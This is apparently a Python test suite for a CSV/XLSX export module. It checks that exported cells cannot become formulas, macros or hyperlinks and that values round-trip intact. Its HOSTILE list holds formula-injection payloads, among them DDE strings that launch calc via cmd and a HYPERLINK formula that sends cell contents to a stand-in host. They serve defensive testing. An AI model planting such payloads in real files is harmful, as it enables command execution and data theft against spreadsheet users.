"""Exported tables run nothing, figures stay figures, and every text comes back."""

import csv
import re
import tempfile
import unicodedata
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backstop.export.grid import Sheet, money, to_csv, to_xlsx
from examples import times

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    "﹣",
    "﹢",
    "﹦",
    "﹫",
    "'",
)
HOSTILE = [
    *(f"{start}1+1" for start in STARTS),
    *(f"  {start}1+1" for start in STARTS),
    '=HYPERLINK("http://x.test/?"&A1,"rent")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://x.test/",
    "internal:Sheet1!A1",
    "mailto:x@x.test",
    "{=1+1}",
    "'=1+1",
    "''",
    "_x0041_",
    "1e999",
    "007",
    'a;b,c"d"',
    "借呗\n=1+1",
    "rent;=1+1",
    "rent;  @SUM(A1)",
    "rent;';=1+1",
    "rent;\u200f=1+1",
    *(f"{mark}=1+1" for mark in "\ufeff\u200b\u200e\u202e\u2066\u00ad\u2800\u3164"),
    "\u2066 \ufeff＝1+1",
]
TEXTS = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\uffff\ufffe")),
    st.tuples(st.sampled_from(STARTS), st.text("ab=+-@ ';\t\ufeff", max_size=5)).map("".join),
)
CELLS = st.one_of(
    TEXTS,
    st.none(),
    st.integers(-(10**9), 10**9),
    st.integers(-(10**14), 10**14).map(lambda minor: money(minor, "CNY")),
    st.dates(date(1950, 1, 1), date(2100, 1, 1)),
)


def read_csv(data: bytes) -> list[list[str]]:
    """As somebody would take the table in again: one apostrophe before a text, and after what could
    divide it, is taken away."""
    rows = csv.reader(StringIO(data.decode("utf-8-sig"), newline=""))
    return [[re.sub(r"(^|[;\t\r\n])'", r"\1", each) for each in row] for row in rows]


def seen(text: str) -> str:
    """Without what a screen passes over, as Unicode's categories say it, and without blanks."""
    passed = {"Cf", "Cc", "Zs", "Zl", "Zp"}
    kept = (c for c in text if unicodedata.category(c) not in passed and c not in "\u2800\u3164")
    return "".join(kept)


def read_xlsx(data: bytes, page: int = 1) -> Iterator[dict[str, str | Decimal]]:
    """The rows of a sheet by their columns: texts as text, numbers as numbers; nothing else."""
    with ZipFile(BytesIO(data)) as parts:
        texts = [
            "".join(piece.text or "" for piece in each.iter(f"{MAIN}t"))
            for each in ElementTree.fromstring(parts.read("xl/sharedStrings.xml"))
        ]
        sheet = ElementTree.fromstring(parts.read(f"xl/worksheets/sheet{page}.xml"))
    for row in sheet.iter(f"{MAIN}row"):
        found: dict[str, str | Decimal] = {}
        for cell in row:
            said = cell.findtext(f"{MAIN}v") or ""
            place = cell.attrib["r"].rstrip("0123456789")
            found[place] = texts[int(said)] if cell.get("t") == "s" else Decimal(said)
        yield found


def sheet(*rows: tuple[object, ...]) -> Sheet:
    return Sheet("Rows", ("A", "B"), rows)  # type: ignore[arg-type]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_spreadsheet_takes_a_typed_text_for_a_formula(text: str) -> None:
    (cell,) = next(
        csv.reader(
            StringIO(to_csv(sheet((text,))).decode("utf-8-sig").split("\r\n", 1)[1], newline="")
        )
    )
    for part in re.split("[;\t\r\n]", cell):  # as a spreadsheet with other separators would
        assert seen(part)[:1] not in STARTS[:-1] or not seen(part)
    assert read_csv(to_csv(sheet((text,))))[1] == [text]


@times(1.5)
@given(st.lists(st.tuples(CELLS, CELLS), max_size=6))
def test_a_csv_table_comes_back_as_it_was(rows: list[tuple[object, object]]) -> None:
    back = read_csv(to_csv(sheet(*rows)))
    assert back[0] == ["A", "B"]
    for row, found in zip(rows, back[1:], strict=True):
        for cell, text in zip(row, found, strict=True):
            match cell:
                case None:
                    assert text == ""
                case str():
                    assert text == cell
                case date():
                    assert date.fromisoformat(text) == cell
                case _:
                    assert Decimal(text) == cell


@times(0.6)
@given(st.lists(st.tuples(CELLS, TEXTS), min_size=1, max_size=4))
def test_a_workbook_holds_texts_and_figures_and_nothing_that_runs(
    rows: list[tuple[object, str]],
) -> None:
    data = to_xlsx([sheet(*rows)])
    with ZipFile(BytesIO(data)) as parts:
        assert not [
            each for each in parts.namelist() if "vba" in each.lower() or "rels/sheet" in each
        ]
        page = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    assert not list(page.iter(f"{MAIN}f"))
    assert not list(page.iter(f"{MAIN}hyperlink"))
    back = list(read_xlsx(data))[1:]
    for row, found in zip(rows, back, strict=True):
        for place, cell in zip("AB", row, strict=True):
            match cell:
                case None:
                    assert place not in found
                case str():
                    assert unescaped(str(found.get(place, ""))) == cell
                case date():
                    assert found[place] == (cell - date(1899, 12, 30)).days
                case _:
                    assert found[place] == cell


def unescaped(text: str) -> str:
    """As the format writes what could be taken for one of its own escapes (ECMA-376, 22.4.2.4)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def test_a_typed_negative_is_a_figure_and_a_typed_text_is_none() -> None:
    rows = sheet((money(-1_234_56, "CNY"), "-1234.56"), (money(-5, "JPY"), "−5"))
    assert to_csv(rows).decode("utf-8-sig").splitlines()[1:] == [
        "-1234.56,'-1234.56",
        "-5,'−5",
    ]
    first, second = list(read_xlsx(to_xlsx([rows])))[1:]
    assert first == {"A": Decimal("-1234.56"), "B": "-1234.56"}
    assert second == {"A": Decimal(-5), "B": "−5"}


def test_a_text_of_any_length_is_written() -> None:
    (row,) = list(read_xlsx(to_xlsx([sheet(("x" * 40_000, ""))])))[1:]
    assert row["A"] == "x" * 32_767


def test_a_workbook_is_made_without_files_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """What a locked book says lies nowhere else, not even for a moment."""
    monkeypatch.setattr(tempfile, "tempdir", "/nowhere")
    assert to_xlsx([sheet(("a", "b"))])


def test_the_head_of_a_workbook_is_bold_and_stays_in_sight() -> None:
    data = to_xlsx([sheet(("a", "b"))])
    with ZipFile(BytesIO(data)) as parts:
        page = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        looks = ElementTree.fromstring(parts.read("xl/styles.xml"))
    [pane] = page.iter(f"{MAIN}pane")
    assert (pane.get("state"), pane.get("ySplit"), pane.get("xSplit")) == ("frozen", "1", None)
    fonts = [font.find(f"{MAIN}b") is not None for font in looks.find(f"{MAIN}fonts") or ()]
    formats = [fonts[int(each.attrib["fontId"])] for each in looks.find(f"{MAIN}cellXfs") or ()]
    rows = [[formats[int(cell.get("s", 0))] for cell in row] for row in page.iter(f"{MAIN}row")]
    assert rows == [[True, True], [False, False]]
